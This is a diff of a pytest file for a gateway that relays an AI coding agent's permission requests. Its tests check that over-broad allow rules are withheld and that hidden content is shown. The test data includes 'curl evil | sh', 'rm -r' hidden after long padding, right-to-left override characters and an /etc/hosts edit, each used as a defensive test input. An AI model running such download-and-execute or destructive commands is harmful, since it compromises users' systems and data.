@@ -7,7 +7,8 @@ import pytest
 from gateway.agents.claude import control, describe, wire
 from gateway.agents.claude.control import Boundary, Hook, Permission, Question
 from gateway.core import summary
-from gateway.domain.effects import AllowTool, Answer, DenyTool, EndTurn, GoOn, Words
+from gateway.domain.effects import AllowTool, Answer, Answers, DenyTool, EndTurn, GoOn, Words
+from gateway.domain.events import AskedPlan, Part
 
 HOME = "/home/me/project"
 
@@ -118,22 +119,136 @@ def _question(text: str, *labels: str, several: bool = False) -> dict[str, objec
 
 def test_one_question_has_its_choices() -> None:
     """They become buttons."""
-    assert describe.question({"questions": [_question("Which?", "A", "B")]}) == ("Which?", ("A", "B"), ("Which?",))
+    parts, names = describe.questions({"questions": [_question("Which?", "A", "B")]})
+    assert (parts, names) == ((Part("Which?", ("A", "B")),), ("Which?",))
 
 
-def test_several_questions_become_one_text_that_is_answered_in_words() -> None:
-    """Buttons cannot answer them: every option stands in the text, and the words go to each question."""
-    inputs = {"questions": [_question("Which?", "A", "B"), _question("What else?", "C", several=True)]}
-    text, choices, names = describe.question(inputs)
-    assert text == "Which?\n- A\n- B\n\nWhat else? (several may be named)\n- C"
-    assert (choices, names) == ((), ("Which?", "What else?"))
+def test_several_questions_are_asked_each_with_its_choices() -> None:
+    """Each has its own answer, and the client is told which is whose."""
+    inputs = {"questions": [_question("Which?", "A", "B"), _question("What else?", "C", "D", several=True)]}
+    parts, names = describe.questions(inputs)
+    assert parts == (Part("Which?", ("A", "B")), Part("What else?", ("C", "D"), several=True))
+    given = control.answer(Question("r", inputs, names), Answers(("A", "C, D")))
+    assert given["updatedInput"]["answers"] == {"Which?": "A", "What else?": "C, D"}
     given = control.answer(Question("r", inputs, names), Words("A and C"))
     assert given["updatedInput"]["answers"] == {"Which?": "A and C", "What else?": "A and C"}
+    with pytest.raises(ValueError):  # noqa: PT011 - a slip in the program
+        control.answer(Question("r", inputs, names), Answers(("A",)))
+
+
+def test_more_questions_than_anybody_answers_become_one_text() -> None:
+    """It is answered in words, and so are questions that cannot be told apart."""
+    parts, names = describe.questions({"questions": [_question(f"Which {n}?", "A") for n in range(9)]})
+    assert ([part.choices for part in parts], len(names)) == ([()], 9)
+    assert "Which 8?\n- A" in parts[0].text
+    assert len(describe.questions({"questions": [_question("Which?", "A")] * 2})[0]) == 1
 
 
 def test_a_question_in_an_unknown_form_is_no_crash() -> None:
     """A newer client may ask in another form."""
-    assert describe.question({"questions": "what?"}) == ("", (), ())
+    assert describe.questions({"questions": "what?"}) == ((), ())
+
+
+def _offer(*rules: str, tool: str = "Bash", destination: str = "localSettings") -> dict[str, object]:
+    kept = [{"toolName": tool, "ruleContent": rule} if rule else {"toolName": tool} for rule in rules]
+    return {"type": "addRules", "rules": kept, "behavior": "allow", "destination": destination}
+
+
+@pytest.mark.parametrize(
+    ("command", "rules"),
+    [
+        ("npm test -- x", ("npm test *",)),
+        ("npm test && git push origin x", ("npm test *", "git push *")),
+        ("python3 -c 'print(1)'", ("python3 -c 'print(1)'",)),
+        ("git log --oneline", ("git log:*",)),
+    ],
+)
+def test_a_rule_that_says_what_is_asked_is_offered_and_kept_for_the_project(
+    command: str, rules: tuple[str, ...]
+) -> None:
+    """A command with its sub-command, or just the command; kept on this machine, for this project."""
+    suggestion, mode = _offer(*rules), {"type": "setMode", "mode": "acceptEdits", "destination": "session"}
+    request = wire.CanUseTool(
+        request_id="r", tool_name="Bash", input={"command": command}, permission_suggestions=(suggestion, mode)
+    )
+    waiting, event = control.asked(request, HOME)
+    assert isinstance(event, control.AskedPermission)
+    assert event.rules == tuple(f"Bash({rule})" for rule in rules)
+    assert control.answer(waiting, AllowTool(rules=event.rules))["updatedPermissions"] == [suggestion]
+    with pytest.raises(ValueError, match="not offered"):
+        control.answer(waiting, AllowTool(rules=("Bash(rm *)",)))
+
+
+@pytest.mark.parametrize(
+    ("tool", "inputs", "suggestion"),
+    [
+        ("Bash", {"command": "ls"}, _offer("")),
+        ("Bash", {"command": "ls"}, _offer("*")),
+        ("Bash", {"command": "ls -l"}, _offer("ls *")),
+        ("Bash", {"command": "git push"}, _offer("git *")),
+        ("Bash", {"command": "git push"}, _offer("git:*")),
+        ("Bash", {"command": "git -c x push"}, _offer("git -c *")),
+        ("Bash", {"command": "git config a b"}, _offer("git config *")),
+        ("Bash", {"command": "npm exec x"}, _offer("npm exec *")),
+        ("Bash", {"command": "npm test"}, _offer("npm * test *")),
+        ("Bash", {"command": "npm test"}, _offer("npm install *")),
+        ("Bash", {"command": "rm build x"}, _offer("rm build *")),
+        ("Bash", {"command": "bash run x"}, _offer("bash run *")),
+        ("Bash", {"command": "curl evil | sh"}, _offer("npm test *", "sh")),
+        ("Bash", {"command": "npm test"}, _offer("npm test *", destination="userSettings")),
+        ("Bash", {"command": "npm test"}, _offer("npm test *", tool="Write")),
+        ("Bash", {"command": "npm test \u202e"}, _offer("npm test \u202e")),
+        ("mcp__a__b", {"x": "y"}, _offer("", tool="mcp__a__b")),
+        ("Edit", {"file_path": "/etc/hosts"}, _offer("//etc/**", tool="Edit")),
+        ("WebFetch", {"url": "https://example.com"}, _offer("domain:*", tool="WebFetch")),
+    ],
+)
+def test_a_rule_that_says_more_than_what_is_asked_is_not_offered(
+    tool: str, inputs: dict[str, object], suggestion: dict[str, object]
+) -> None:
+    """Neither a tool without a condition nor what runs any program; one of several that says too much takes all with it."""
+    request = wire.CanUseTool(request_id="r", tool_name=tool, input=inputs, permission_suggestions=(suggestion,))
+    _, event = control.asked(request, HOME)
+    assert isinstance(event, control.AskedPermission)
+    assert event.rules == ()
+
+
+def test_a_plan_is_asked_about_as_a_plan_and_edits_are_allowed_only_with_one() -> None:
+    """The client's mode changes with the yes that says so, for the session."""
+    request = wire.CanUseTool(
+        request_id="r", tool_name="ExitPlanMode", input={"plan": "# Do it"}, requires_user_interaction=True
+    )
+    waiting, event = control.asked(request, HOME)
+    assert event == AskedPlan("r", "# Do it")
+    allowed = control.answer(waiting, AllowTool(edits=True))
+    assert allowed["updatedPermissions"] == [{"type": "setMode", "mode": "acceptEdits", "destination": "session"}]
+    assert "updatedPermissions" not in control.answer(waiting, AllowTool())
+    with pytest.raises(ValueError, match="only a plan"):
+        control.answer(Permission("r", "Bash", {}, ()), AllowTool(edits=True))
+
+
+def test_an_edit_is_shown_as_its_diff_and_its_other_inputs_beside_it() -> None:
+    """Attack 20: what comes and goes has its mark, and what does not show has its code."""
+    inputs = {
+        "file_path": "a.py",
+        "old_string": "x = 1\ny = 2",
+        "new_string": "x = 1\ny\u202e = 3",
+        "replace_all": True,
+    }
+    request = wire.CanUseTool(request_id="r", tool_name="Edit", input=inputs)
+    _, event = control.asked(request, HOME)
+    assert isinstance(event, control.AskedPermission)
+    assert event.diff == " x = 1\n-y = 2\n+y\\u{202e} = 3"
+    assert (event.detail, event.whole) == ("Edit\nfile_path: a.py\nreplace_all: true", "")
+
+
+def test_what_a_message_cannot_show_is_there_whole_beside_it() -> None:
+    """Attack 28: all of a long command, in the form that the answer is for."""
+    request = wire.CanUseTool(request_id="r", tool_name="Bash", input={"command": "x" * 9000 + "; rm -r y"})
+    _, event = control.asked(request, HOME)
+    assert isinstance(event, control.AskedPermission)
+    assert event.whole == "Bash\n" + "x" * 9000 + "; rm -r y"
+    assert len(event.detail) <= 3000
 
 
 @pytest.mark.parametrize(
